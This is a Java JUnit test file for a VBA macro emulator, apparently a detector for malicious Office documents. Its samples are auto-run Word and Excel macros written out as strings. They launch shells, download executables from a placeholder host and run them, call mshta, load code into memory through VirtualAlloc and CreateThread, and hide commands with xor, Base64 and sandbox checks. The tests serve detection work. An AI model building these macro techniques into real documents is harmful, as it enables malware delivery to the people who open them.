package dev.peekaboo.emulation.script.basic;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.MacroBook;
import dev.peekaboo.report.MacroDocument;
import dev.peekaboo.report.MacroDocument.Kind;
import dev.peekaboo.report.MacroDocument.Module;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** Harmless macros in the styles of mailed documents, and what they do. */
class VbaTest {
    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, MacroDocument document, String... expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Sample word(String name, String source, String... expected) {
        return new Sample(name, Documents.word(source), expected);
    }

    private static Sample excel(String name, String source, String... expected) {
        return new Sample(name, Documents.excel(source), expected);
    }

    static Stream<Sample> macros_that_start_by_themselves_show_what_they_do() {
        return Stream.of(starts(), data(), cells(), natives(), language()).flatMap(all -> all);
    }

    private static Stream<Sample> starts() {
        return Stream.of(
                word(
                        "Shell",
                        "Sub AutoOpen()\nShell \"powershell -enc AAAA\", vbHide\nEnd Sub",
                        "script_starts_interpreter",
                        "hidden_command"),
                word(
                        "Shell as function",
                        "Private Sub Document_Open()\nDim r As Double\nr = Shell(\"cmd /c calc\", 0)\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "WScript.Shell through With",
                        "Sub Document_Open()\nWith CreateObject(\"WScript.Shell\")\n.Run \"cmd.exe /c calc\", 0, False\nEnd With\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "on closing",
                        "Sub AutoClose()\nCall Go\nEnd Sub\nPrivate Sub Go()\nVBA.Shell \"cmd /c calc\"\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "ActiveX event",
                        "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)\nShell \"cmd /c calc\"\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "download and run",
                        """
                        Sub AutoOpen()
                            Dim x As Object, s As Object, p As String
                            Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
                            x.Open "GET", "http://files.example/a.exe", False
                            x.Send
                            p = Environ("TEMP") & "\\a.exe"
                            Set s = CreateObject("ADODB.Stream")
                            s.Type = 1: s.Open: s.Write x.responseBody: s.SaveToFile p, 2
                            Shell p
                        End Sub""",
                        "download_and_run"),
                word(
                        "download by bytes into a numbered file",
                        """
                        Sub AutoOpen()
                            Dim x As Object, b() As Byte, f As Integer
                            Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
                            x.Open "GET", "http://files.example/a.exe", False
                            x.Send
                            b = x.responseBody
                            f = FreeFile
                            Open Environ$("TEMP") & "\\b.exe" For Binary As #f
                            Put #f, , b
                            Close #f
                            CreateObject("Shell.Application").ShellExecute Environ$("TEMP") & "\\b.exe"
                        End Sub""",
                        "download_and_run"),
                word(
                        "script written line by line",
                        """
                        Sub AutoOpen()
                            Open "C:\\Users\\Public\\a.vbs" For Output As #1
                            Print #1, "Set x = CreateObject(""WScript.Shell"")"
                            Print #1, "x.Run ""powershell -c calc\"""
                            Close #1
                            Shell "wscript C:\\Users\\Public\\a.vbs", vbHide
                        End Sub""",
                        "drops_and_runs",
                        "script_starts_interpreter"),
                word(
                        "WMI",
                        "Sub AutoOpen()\nSet o = GetObject(\"winmgmts:root\\cimv2:Win32_Process\")\no.Create \"powershell calc\", Null, Null, p\nEnd Sub",
                        "wmi_process"),
                excel(
                        "workbook",
                        "Private Sub Workbook_Open()\nShell \"mshta http://files.example/a\"\nEnd Sub",
                        "runs_remote_script"),
                new Sample(
                        "Auto_Open in a module, worker in another",
                        Documents.of(
                                "excel",
                                new Module(
                                        "Module1",
                                        Kind.STANDARD,
                                        "Sub Auto_Open()\nModule2.Go \"cmd\"\nEnd Sub"),
                                new Module(
                                        "Module2",
                                        Kind.STANDARD,
                                        "Public Sub Go(ByVal c As String)\nShell c & \" /c calc\"\nEnd Sub")),
                        "script_starts_interpreter"),
                excel(
                        "later",
                        "Sub Workbook_Open()\nApplication.OnTime Now + TimeValue(\"00:00:05\"), \"ThisWorkbook.Go\"\nEnd Sub\nSub Go()\nShell \"cmd /c calc\"\nEnd Sub",
                        "script_starts_interpreter"),
                excel(
                        "old macro language",
                        "Sub Auto_Open()\nApplication.ExecuteExcel4Macro \"EXEC(\"\"cmd /c calc\"\")\"\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "Application.Run and CallByName",
                        "Sub AutoOpen()\nApplication.Run \"Go\", \"cmd /c calc\"\nEnd Sub\nSub Go(c)\nDim o: Set o = CreateObject(\"WScript.Shell\")\nCallByName o, \"Run\", VbMethod, c, 0\nEnd Sub",
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> data() {
        return Stream.of(
                word(
                        "title and comments",
                        "Sub AutoOpen()\nShell ActiveDocument.BuiltInDocumentProperties(\"Title\") & \" \" & ThisDocument.BuiltInDocumentProperties(\"Comments\").Value\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "custom property",
                        "Sub AutoOpen()\nShell ActiveDocument.CustomDocumentProperties(\"own\")\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "variable in hex",
                        "Sub AutoOpen()\nDim h, s, i\nh = ActiveDocument.Variables(\"payload\").Value\nFor i = 1 To Len(h) Step 2\ns = s & Chr$(Val(\"&H\" & Mid$(h, i, 2)))\nNext i\nShell s & \"http://files.example/a\"\nEnd Sub",
                        "runs_remote_script"),
                word(
                        "paragraph",
                        "Sub AutoOpen()\nDim t As String\nt = ActiveDocument.Paragraphs(1).Range.Text\nShell Left(t, Len(t) - 1)\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "alternative text",
                        "Sub AutoOpen()\nShell ActiveDocument.Shapes(\"Picture 1\").AlternativeText\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "alternative text by number",
                        "Sub AutoOpen()\nShell Me.InlineShapes(1).AlternativeText\nEnd Sub",
                        "script_starts_interpreter"),
                new Sample(
                        "form",
                        Documents.of(
                                "word",
                                new Module(
                                        "ThisDocument",
                                        Kind.DOCUMENT,
                                        "Sub AutoOpen()\nShell UserForm1.TextBox1.Text & UserForm1.TextBox1.Tag\nEnd Sub"),
                                new Module("UserForm1", Kind.FORM, "")),
                        "script_starts_interpreter"),
                new Sample(
                        "form that is shown",
                        Documents.of(
                                "word",
                                new Module(
                                        "ThisDocument",
                                        Kind.DOCUMENT,
                                        "Sub AutoOpen()\nUserForm1.Show\nEnd Sub"),
                                new Module(
                                        "UserForm1",
                                        Kind.FORM,
                                        "Private Sub UserForm_Initialize()\nShell Label1.Caption & \" -c calc\"\nEnd Sub")),
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> cells() {
        return Stream.of(
                excel(
                        "cells",
                        "Sub Workbook_Open()\nShell Cells(1, 1) & Range(\"B1\").Value & Sheets(\"Data\").Cells(2, \"A\")\nEnd Sub",
                        "script_starts_interpreter"),
                excel(
                        "short places",
                        "Sub Workbook_Open()\nShell [A1] & [B1] & [A2]\nEnd Sub",
                        "script_starts_interpreter"),
                excel(
                        "another sheet",
                        "Sub Workbook_Open()\nDim w As Worksheet\nFor Each w In ThisWorkbook.Worksheets\nIf w.Name = \"Hidden\" Then Shell w.Range(\"B7\")\nNext w\nEnd Sub",
                        "script_starts_interpreter"),
                excel(
                        "all cells in turn",
                        "Sub Workbook_Open()\nDim c As Range, s As String\nFor Each c In Sheets(1).Range(\"A1:B1\")\ns = s & c.Value\nNext\nShell s & Sheets(1).Range(\"A1\").Offset(1, 0)\nEnd Sub",
                        "script_starts_interpreter"),
                excel(
                        "written and read",
                        "Sub Workbook_Open()\nRange(\"D4\").Value = \"cmd /c calc\"\nShell Range(\"D4\").Value\nEnd Sub",
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> natives() {
        return Stream.of(
                word(
                        "URLDownloadToFile",
                        """
                        Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
                        Sub AutoOpen()
                            Fetch 0, "http://files.example/a.exe", "C:\\Users\\Public\\a.exe", 0, 0
                            Shell "C:\\Users\\Public\\a.exe", 0
                        End Sub""",
                        "download_and_run"),
                word(
                        "ShellExecute",
                        """
                        #If VBA7 Then
                        Private Declare PtrSafe Function ShellExecute Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As LongPtr, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal n As Long) As LongPtr
                        #Else
                        Private Declare Function ShellExecute Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As Long, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal n As Long) As Long
                        #End If
                        Sub AutoOpen()
                            ShellExecute 0, "open", "cmd.exe", "/c calc", vbNullString, 0
                        End Sub""",
                        "script_starts_interpreter"),
                word(
                        "code in memory and a thread",
                        """
                        Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
                        Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr, ByRef s As Any, ByVal n As Long) As LongPtr
                        Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal s As Long, ByVal f As LongPtr, p As Long, ByVal c As Long, i As Long) As LongPtr
                        Sub Document_Open()
                            Dim code As Variant, m As LongPtr, i As Long, b As Long
                            code = Array(252, 72, 131, 228)
                            m = VirtualAlloc(0, UBound(code), &H1000, &H40)
                            For i = LBound(code) To UBound(code)
                                b = code(i)
                                RtlMoveMemory m + i, b, 1
                            Next i
                            CreateThread 0, 0, m, 0, 0, 0
                        End Sub""",
                        "loads_code_into_memory"),
                word(
                        "code in memory and a callback",
                        """
                        Private Declare Function HeapCreate Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As Long) As Long
                        Private Declare Function HeapAlloc Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As Long) As Long
                        Private Declare Sub Copy Lib "ntdll" Alias "RtlMoveMemory" (ByVal d As Long, ByVal s As String, ByVal n As Long)
                        Private Declare Function EnumSystemLocalesA Lib "kernel32" (ByVal f As Long, ByVal g As Long) As Long
                        Sub AutoOpen()
                            m = HeapAlloc(HeapCreate(0, 0, 0), 0, 100)
                            Copy m, "xyz", 3
                            EnumSystemLocalesA m, 0
                        End Sub""",
                        "loads_code_into_memory"));
    }

    private static Stream<Sample> language() {
        return Stream.of(
                word(
                        "errors and jumps",
                        """
                        Sub AutoOpen()
                            On Error GoTo Failed
                            x = 1 / 0
                            Exit Sub
                        Failed:
                            Resume Go
                        Go:
                            GoSub Part
                            Shell s & " /c calc"
                            Exit Sub
                        Part:
                            s = "cmd"
                            Return
                        End Sub""",
                        "script_starts_interpreter"),
                word(
                        "Resume Next goes on behind the error",
                        """
                        Sub AutoOpen()
                            On Error GoTo Failed
                            For i = 1 To 3
                                s = s & Mid("cmd", i, 1)
                                x = CInt("no number")
                            Next i
                            Shell s & " /c calc"
                            Exit Sub
                        Failed:
                            Resume Next
                        End Sub""",
                        "script_starts_interpreter"),
                word(
                        "jumps for hiding the order",
                        "Sub AutoOpen()\nGoTo a3\na1:\nShell s\nGoTo a4\na2:\ns = s & \" /c calc\"\nGoTo a1\na3:\ns = \"cmd\"\nGoTo a2\na4:\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "typed arrays and conversion of bytes",
                        "Sub AutoOpen()\nDim b(0 To 2) As Byte, s As String\nb(0) = 99: b(1) = 109: b(2) = 100\ns = StrConv(b, vbUnicode)\nShell s & \" /c calc\"\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "by reference, named and optional arguments",
                        "Sub AutoOpen()\nDim s As String\nMake target:=s, b:=\"md\"\nShell PathName:=s, WindowStyle:=0\nEnd Sub\nSub Make(ByRef target As String, Optional a As String = \"c\", Optional b As String)\ntarget = a & b & \" /c calc\"\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "records, enumerations, properties",
                        "Private Type Part\nText As String\nNumber As Long\nEnd Type\nPrivate Enum Place\nFirst = 1\nSecond\nEnd Enum\nPrivate Property Get Tail() As String\nTail = \" /c calc\"\nEnd Property\nSub AutoOpen()\nDim p(1 To 2) As Part\np(First).Text = \"c\": p(Second).Text = \"md\"\nShell p(1).Text & p(2).Text & Tail\nEnd Sub",
                        "script_starts_interpreter"),
                new Sample(
                        "class",
                        Documents.of(
                                "word",
                                new Module(
                                        "Module1",
                                        Kind.STANDARD,
                                        "Sub AutoOpen()\nDim r As New Runner\nr.Tail = \"calc\"\nr.Go\nEnd Sub"),
                                new Module(
                                        "Runner",
                                        Kind.CLASS,
                                        "Private t As String\nPublic Property Let Tail(v As String)\nt = v\nEnd Property\nPublic Sub Go()\nShell \"cmd /c \" & t\nEnd Sub")),
                        "script_starts_interpreter"),
                word(
                        "xor over a text with Mid as statement",
                        "Function X(ByVal t As String, k As Byte) As String\nDim i As Integer\nFor i = 1 To Len(t)\nMid$(t, i, 1) = Chr$(Asc(Mid$(t, i, 1)) Xor k)\nNext\nX = t\nEnd Function\nSub AutoOpen()\nShell X(\"ble!.b!b`mb\", 1)\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "comments and lines that go on",
                        "Sub AutoOpen() ' first _\n  still a comment\nDim s _\n  As String\ns = \"cm\" _\n  & \"d\" & _\n  \" /c calc\" ' done\n   VBA.Interaction.Shell _\n  s\nEnd Sub",
                        "script_starts_interpreter"),
                word(
                        "Base64 by hand",
                        """
                        Function D(ByVal t As String) As String
                            Const A = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                            Dim i As Long, n As Long, j As Long
                            For i = 1 To Len(t) Step 4
                                n = 0
                                For j = 0 To 3
                                    n = n * 64 + IIf(Mid(t, i + j, 1) = "=", 0, InStr(A, Mid(t, i + j, 1)) - 1)
                                Next j
                                D = D & Chr(n \\ 65536) & Chr((n \\ 256) And 255) & Chr(n And 255)
                            Next i
                        End Function
                        Sub AutoOpen()
                            Shell D("cG93ZXJzaGVsbCAtYyBjYWxj")
                        End Sub""",
                        "script_starts_interpreter"),
                word(
                        "a select over the machine",
                        "Sub AutoOpen()\nSelect Case Application.System.Version\nCase Is > 100\nExit Sub\nEnd Select\nIf Tasks.Count < 10 Or RecentFiles.Count < 3 Then Exit Sub\nShell \"cmd /c calc\"\nEnd Sub",
                        "script_starts_interpreter"));
    }

    @ParameterizedTest
    @MethodSource
    void macros_that_start_by_themselves_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(sample.document());

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Sub Helper()\nShell \"cmd /c calc\"\nEnd Sub",
                "Sub AutoOpen()\nMsgBox \"Welcome\"\nEnd Sub",
                "Private Sub Document_Open()\nActiveDocument.Fields.Update\nSelection.HomeKey\nEnd Sub",
                "Sub AutoOpen()\nDim i As Long, s As String\nFor i = 1 To ActiveDocument.Paragraphs.Count\ns = s & ActiveDocument.Paragraphs(i).Range.Text\nNext\nDebug.Print s; Len(s)\nEnd Sub"
            })
    void harmless_macros_run_to_their_end_and_show_nothing(String source) {
        EmulationReport report = Emulated.run(Documents.module(source));

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void code_that_is_only_compiled_is_told_and_leaves_a_gap() {
        MacroDocument stomped =
                new MacroDocument(
                        "word",
                        List.of(
                                new Module(
                                        "ThisDocument", Kind.DOCUMENT, "Sub AutoOpen()\nEnd Sub")),
                        Map.of(),
                        Map.of(),
                        Map.of(),
                        "",
                        List.of(),
                        List.of(),
                        List.of(),
                        MacroBook.NONE,
                        List.of("powershell -c calc"),
                        List.of());

        EmulationReport report = Emulated.run(stomped);

        assertThat(Emulated.ids(report)).contains("hidden_macro_code");
        assertThat(report.completeness()).isNotEqualTo(Completeness.COMPLETE);
    }
}
